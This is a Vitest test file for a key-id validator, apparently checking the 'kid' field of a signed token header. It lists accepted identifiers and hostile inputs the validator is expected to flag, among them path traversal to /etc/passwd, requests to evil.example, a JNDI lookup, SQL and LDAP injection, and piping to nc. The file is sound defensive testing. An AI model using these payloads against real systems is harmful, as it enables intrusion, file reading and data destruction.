import { describe, expect, it } from 'vitest'
import { checkOf, withHeader } from '../../check-of'

describe('key-id', () => {
  it.each([
    'key-1',
    '2026-03-signing-key',
    'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs',
    'K+rJ/x3a9w==',
    '/x3a9w+K+rJ/ab==',
    '7d:5f:a1:00',
    'did:web:example.com#key-1',
    'arn:aws:kms:eu-west-1:111122223333:key/1234abcd',
    'projects/p/locations/eu/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1',
    'user@example.com',
  ])('passes %j', async (kid) => {
    expect((await checkOf('key-id', withHeader({ kid })))[0]).toBe('passed')
  })

  it.each([
    ['../../../../dev/null', 'path traversal'],
    ['..\\..\\windows\\win.ini', 'path traversal'],
    ['%2e%2e%2fetc%2fpasswd', 'path traversal'],
    ['/etc/passwd', 'path traversal'],
    ['C:\\keys\\a.pem', 'path traversal'],
    ['./keys/public.pem', 'path traversal'],
    ['file:///etc/hosts', 'path traversal'],
    ['https://evil.example/key', 'server-side request forgery'],
    ['//evil.example/key', 'server-side request forgery'],
    ['${jndi:ldap://evil.example/a}', 'template injection'],
    ['{{7*7}}', 'template injection'],
    ["x' UNION SELECT 'secret' -- ", 'SQL injection'],
    ["' OR '1'='1", 'SQL injection'],
    ['1; DROP TABLE keys', 'SQL injection'],
    ['*)(uid=*))(|(uid=*', 'LDAP injection'],
    ['key | nc evil.example 1', 'command injection'],
    ['key; cat /proc/version', 'command injection'],
    ['$(id)', 'command injection'],
    ['`id`', 'command injection'],
    ['key-1\u0000.pem', 'control characters'],
    ['key-1\nlevel=info', 'control characters'],
    ['', 'empty'],
    ['x'.repeat(257), '257 characters'],
  ])('warns of %j: %s', async (kid, words) => {
    expect(await checkOf('key-id', withHeader({ kid }))).toEqual(['warning', expect.stringContaining(words)])
  })

  it('is not applicable without one, and fails one that is no text', async () => {
    expect((await checkOf('key-id', withHeader({ kid: undefined })))[0]).toBe('not-applicable')
    expect(await checkOf('key-id', withHeader({ kid: { a: 1 } }))).toEqual(['failed', '"kid" is {"a":1}, not a text.'])
  })

  it('looks at an enormous one no longer than at a small one', async () => {
    const started = performance.now()
    const [status] = await checkOf('key-id', withHeader({ kid: `' or 1 `.repeat(100_000) }))
    expect(status).toBe('warning')
    expect(performance.now() - started).toBeLessThan(5_000)
  })

  it('takes the longest usual id for plain', async () => {
    expect((await checkOf('key-id', withHeader({ kid: 'x'.repeat(256) })))[0]).toBe('passed')
  })
})
